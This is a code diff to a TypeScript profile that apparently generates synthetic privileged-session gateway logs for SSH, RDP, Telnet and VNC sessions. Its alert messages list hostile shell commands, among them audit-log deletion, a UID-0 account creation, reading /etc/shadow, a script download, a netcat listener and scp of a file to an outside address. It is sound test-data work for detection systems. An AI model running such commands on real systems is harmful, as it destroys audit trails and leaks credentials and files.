@@ -1,21 +1,65 @@
 import { defineProfile } from './profile.js';
-import type { Field } from './profile-data.js';
+import type { Field, Value } from './profile-data.js';
 
-const SESSION = 'svc/${pattern:xxxxxxxxxxxxxxxx}/${protocol.policy}:${between:1,9000}';
-const lets = {
-  protocol: { row: 'protocols' },
-  session: SESSION,
+/** Of each protocol: who logs in with it, and what is seen in it. */
+const logins = {
+  SSH: '${choice:root,root,oracle,deploy,postgres}',
+  RDP: '${choice:Administrator,svc-backup,svc-sql}',
+  TELNET: '${choice:admin,cisco,operator}',
+  VNC: '${choice:operator,plant}',
+};
+const sights = {
+  SSH: {
+    choice: [
+      'sudo su -',
+      'rm -rf /var/log/audit',
+      'useradd -o -u 0 support',
+      'cat /etc/shadow',
+      'iptables -F',
+      'systemctl stop auditd',
+      'curl -O https://${site.domain}/a.sh',
+      'nc -l -p ${between:1024,9000}',
+      'history -c',
+      'chmod 4755 /tmp/${pattern:aaaa}',
+      'scp ${file.name} ${stranger.address}:/tmp',
+    ],
+  },
+  RDP: '${choice:Registry Editor,Local Users and Groups,Windows Security Settings,Local Security Policy}',
+};
+const files = { SSH: '/${choice:tmp,srv/data,home,opt/app}/${file.name}', RDP: '${file.folder}\\${file.name}' };
+type Protocol = keyof typeof logins;
+/** One field, of the value that the protocol has. */
+const byProtocol = (key: string, values: Partial<Record<Protocol, Value>>): readonly Field[] =>
+  Object.entries(values).map(([protocol, value]) => [key, value, { if: `protocol=${protocol}` }]);
+
+const session = {
+  session: 'svc/${pattern:xxxxxxxxxxxxxxxx}/${protocol|protocols.policy}:${between:1,9000}',
   who: '${admin}',
-  account: '${protocol.account}',
+  login: { row: [logins] },
   port: '${between:49152,65535}',
 } as const;
+/** Each server is managed by one protocol. */
+const lets = {
+  protocol: { owner: 'server.name', value: { weighted: { SSH: 6, RDP: 4 } } },
+  ...session,
+  target: { row: [{ name: '${server.name}', address: '${server.address}' }] },
+} as const;
+/** Machines of the plant, which know neither. */
+const plant = {
+  protocol: '${asset.type|plant}',
+  ...session,
+  target: { row: [{ name: '${asset.name|lower}.plant.example.com', address: '${asset.address}' }] },
+} as const;
 const ends: readonly Field[] = [
-  ['app', '${protocol.name}'],
-  ['dhost', '${server.name}'],
-  ['dpt', '${protocol.port}'],
-  ['dst', '${server.address}'],
+  ['app', '${protocol}'],
+  ['dhost', '${target.name}'],
+  ['dpt', '${protocol|protocols.port}'],
+  ['dst', '${target.address}'],
 ];
-const accounts: readonly Field[] = [['duser', '${account}']];
+const accounts = byProtocol('duser', {
+  ...{ SSH: '${login.SSH}', RDP: '${login.RDP}' },
+  ...{ TELNET: '${login.TELNET}', VNC: '${login.VNC}' },
+});
 const more: readonly Field[] = [
   ['dvchost', '${device.hostName}'],
   ['externalId', '${id}'],
@@ -49,50 +93,14 @@ export const oneidentitySps = defineProfile({
   hostPrefix: 'sps',
   idKey: 'externalId',
   pri: 134,
-  tables: {
-    protocols: [
-      {
-        weight: 6,
-        name: 'SSH',
-        port: 22,
-        policy: 'ssh_console',
-        channel: 'session-shell',
-        account: '${choice:root,root,oracle,deploy,postgres}',
-      },
-      {
-        weight: 4,
-        name: 'RDP',
-        port: 3389,
-        policy: 'rdp_servers',
-        channel: 'rdp-drawing',
-        account: '${choice:Administrator,svc-backup,svc-sql}',
-      },
-      {
-        weight: 1,
-        name: 'TELNET',
-        port: 23,
-        policy: 'telnet_switches',
-        channel: 'telnet',
-        account: '${choice:admin,cisco,operator}',
-      },
-      { weight: 1, name: 'VNC', port: 5900, policy: 'vnc_plant', channel: 'vnc', account: '${choice:operator,plant}' },
-    ],
-    commands: [
-      { text: 'sudo su -' },
-      { text: 'rm -rf /var/log/audit' },
-      { text: 'useradd -o -u 0 support' },
-      { text: 'cat /etc/shadow' },
-      { text: 'iptables -F' },
-      { text: 'systemctl stop auditd' },
-      { text: 'curl -O https://${site.domain}/a.sh' },
-      { text: 'nc -l -p ${between:1024,9000}' },
-      { text: 'history -c' },
-      { text: 'chmod 4755 /tmp/${pattern:aaaa}' },
-      { text: 'Registry Editor' },
-      { text: 'Local Users and Groups' },
-      { text: 'Windows Security Settings' },
-      { text: 'scp ${file.name} ${stranger.address}:/tmp' },
-    ],
+  maps: {
+    protocols: {
+      SSH: { port: '22', policy: 'ssh_console', channel: 'session-shell' },
+      RDP: { port: '3389', policy: 'rdp_servers', channel: 'rdp-drawing' },
+      TELNET: { port: '23', policy: 'telnet_switches', channel: 'telnet' },
+      VNC: { port: '5900', policy: 'vnc_plant', channel: 'vnc' },
+    },
+    plant: { Switch: 'TELNET', RTU: 'TELNET', PLC: 'TELNET', '*': 'VNC' },
   },
   kinds: {
     connect: step(1350918541, 'ServerConnect', 0, ''),
@@ -119,12 +127,12 @@ export const oneidentitySps = defineProfile({
       let: lets,
     },
     alert: step(1244069864, 'ChannelAlert', 8, '', [
-      ['cat', '${protocol.channel}'],
-      ['msg', '${seen.text}'],
+      ['cat', '${protocol|protocols.channel}'],
+      ...byProtocol('msg', sights),
     ]),
     transfer: step(1127618380, 'FileTransfer', 3, '', [
       ['act', '${choice:upload,download}'],
-      ['filePath', '/${choice:tmp,srv/data,home,opt/app}/${file.name}'],
+      ...byProtocol('filePath', files),
       ['fname', '${file.name}'],
       ['fsize', '${file.sizeBytes}'],
     ]),
@@ -132,13 +140,18 @@ export const oneidentitySps = defineProfile({
   },
   sessions: {
     plain: {
-      weight: 20,
+      weight: 16,
       let: lets,
+      steps: ['gateway-success', 'connect', 'server-success', 'disconnect'],
+    },
+    plant: {
+      weight: 4,
+      let: plant,
       steps: ['gateway-success', 'connect', 'server-success', 'disconnect'],
     },
     alerted: {
       weight: 6,
-      let: { ...lets, seen: { row: 'commands' } },
+      let: lets,
       steps: ['gateway-success', 'connect', 'server-success', 'alert', 'disconnect'],
     },
     copying: {
